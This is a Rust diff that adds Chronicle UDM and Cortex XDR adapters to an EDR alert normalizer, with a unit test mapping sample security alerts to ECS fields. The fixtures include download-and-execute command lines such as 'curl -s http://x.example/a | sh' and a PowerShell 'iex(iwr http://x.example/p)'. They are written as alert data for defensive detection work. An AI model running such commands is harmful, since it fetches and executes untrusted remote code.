@@ -373,6 +373,8 @@ pub fn normalize(mut obj: Map<String, Json>) -> (Map<String, Json>, Option<Strin
         edr::falco,
         edr::carbon_black,
         edr::microsoft_evidence,
+        edr::chronicle_udm,
+        edr::cortex_xdr,
     ] {
         if let Some((ecs, vid)) = adapter(&obj) {
             obj = ecs;
@@ -2074,6 +2076,68 @@ mod tests {
         assert_eq!(cb.doc["user"]["domain"], "CONTOSO");
         assert_eq!(cb.doc["host"]["os"]["type"], "windows");
         assert_eq!(cb.doc["threat"]["technique"]["id"], json!(["T1105"]));
+    }
+
+    #[test]
+    fn chronicle_cortex_graph_and_sentinel_alerts_map_to_ecs() {
+        // Chronicle UDM: the principal's process launched the target's.
+        let udm = from_json(json!({"metadata": {"event_type": "PROCESS_LAUNCH", "event_timestamp": "2025-01-01T00:00:00Z", "id": "u-1"},
+            "principal": {"hostname": "WS-1", "platform": "WINDOWS", "user": {"userid": "ann"},
+                "process": {"command_line": "cmd.exe /c x.bat", "file": {"full_path": "C:\\Windows\\System32\\cmd.exe"}}},
+            "target": {"process": {"pid": "44", "command_line": "powershell -enc AA==", "file": {"full_path": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"}}},
+            "security_result": [{"rule_name": "ps", "attack_details": {"techniques": [{"id": "T1059.001"}]}}]}), "x").unwrap();
+        assert_eq!(udm.id, "u-1");
+        assert_eq!(udm.doc["process"]["name"], "powershell.exe");
+        assert_eq!(udm.doc["process"]["pid"], 44);
+        assert_eq!(udm.doc["process"]["parent"]["name"], "cmd.exe");
+        assert_eq!(udm.doc["user"]["name"], "ann");
+        assert_eq!(udm.doc["host"]["os"]["type"], "windows");
+        assert_eq!(udm.doc["threat"]["technique"]["id"], json!(["T1059.001"]));
+        // Cortex XDR: action process started by the actor, under the causality actor.
+        let xdr = from_json(json!({"alert_id": 77, "host_name": "mac-2", "os_actual": "macOS 14", "user_name": "bo",
+            "action_process_image_command_line": "curl -s http://x.example/a | sh", "action_process_image_name": "curl",
+            "actor_process_image_path": "/bin/zsh", "actor_process_command_line": "zsh -c ...",
+            "causality_actor_process_image_path": "/Applications/Foo.app/Contents/MacOS/Foo", "causality_actor_process_command_line": "Foo",
+            "mitre_technique_id_and_name": ["T1059.004 - Command and Scripting Interpreter: Unix Shell"]}), "x").unwrap();
+        assert_eq!(xdr.id, "77");
+        assert_eq!(xdr.doc["process"]["name"], "curl");
+        assert_eq!(xdr.doc["process"]["parent"]["executable"], "/bin/zsh");
+        assert_eq!(xdr.doc["process"]["parent"]["parent"]["name"], "Foo");
+        assert_eq!(xdr.doc["host"]["os"]["type"], "macos");
+        assert_eq!(xdr.doc["threat"]["technique"]["id"], json!(["T1059.004"]));
+        // Graph alerts_v2: the process evidence no other names as its parent.
+        let graph = from_json(json!({"id": "da-1", "title": "Suspicious PowerShell", "mitreTechniques": ["T1059.001"],
+            "evidence": [
+                {"@odata.type": "#microsoft.graph.security.deviceEvidence", "deviceDnsName": "ws2.contoso.example", "osPlatform": "Windows11"},
+                {"@odata.type": "#microsoft.graph.security.processEvidence", "processId": 10, "processCommandLine": "winword.exe /n a.docm",
+                    "imageFile": {"fileName": "WINWORD.EXE", "filePath": "C:\\Program Files\\Microsoft Office\\root\\Office16"}},
+                {"@odata.type": "#microsoft.graph.security.processEvidence", "processId": 11, "parentProcessId": 10,
+                    "processCommandLine": "powershell -nop -c iex(iwr http://x.example/p)",
+                    "imageFile": {"fileName": "powershell.exe", "filePath": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0"},
+                    "userAccount": {"accountName": "kim", "domainName": "CONTOSO"}}]}), "x").unwrap();
+        assert_eq!(graph.id, "da-1");
+        assert_eq!(graph.doc["process"]["name"], "powershell.exe");
+        assert_eq!(graph.doc["process"]["parent"]["command_line"], "winword.exe /n a.docm");
+        assert_eq!(graph.doc["user"]["name"], "kim");
+        assert_eq!(graph.doc["host"]["name"], "ws2.contoso.example");
+        // Sentinel SecurityAlert: entities as a JSON string, linked by $id/$ref.
+        let entities = json!([
+            {"$id": "2", "Type": "process", "ProcessId": "500", "CommandLine": "cscript //nologo C:\\Users\\x\\a.vbs",
+                "ImageFile": {"$id": "3", "Type": "file", "Name": "cscript.exe", "Directory": "C:\\Windows\\System32"},
+                "ParentProcess": {"$id": "4", "Type": "process", "ProcessId": "400", "CommandLine": "explorer.exe",
+                    "ImageFile": {"$id": "5", "Type": "file", "Name": "explorer.exe", "Directory": "C:\\Windows"}},
+                "Account": {"$ref": "6"}, "Host": {"$ref": "7"}},
+            {"$id": "6", "Type": "account", "Name": "lee", "NTDomain": "CONTOSO"},
+            {"$id": "7", "Type": "host", "HostName": "ws3", "OSFamily": "Windows"}]).to_string();
+        let sa = from_json(json!({"SystemAlertId": "sa-1", "AlertName": "VBS from user folder", "Entities": entities,
+            "Techniques": "[\"T1059.005\"]", "CompromisedEntity": "ws3"}), "x").unwrap();
+        assert_eq!(sa.id, "sa-1");
+        assert_eq!(sa.doc["process"]["name"], "cscript.exe");
+        assert_eq!(sa.doc["process"]["pid"], 500);
+        assert_eq!(sa.doc["process"]["parent"]["name"], "explorer.exe");
+        assert_eq!(sa.doc["user"]["name"], "lee");
+        assert_eq!(sa.doc["host"]["name"], "ws3");
+        assert_eq!(sa.doc["threat"]["technique"]["id"], json!(["T1059.005"]));
     }
 
     #[test]
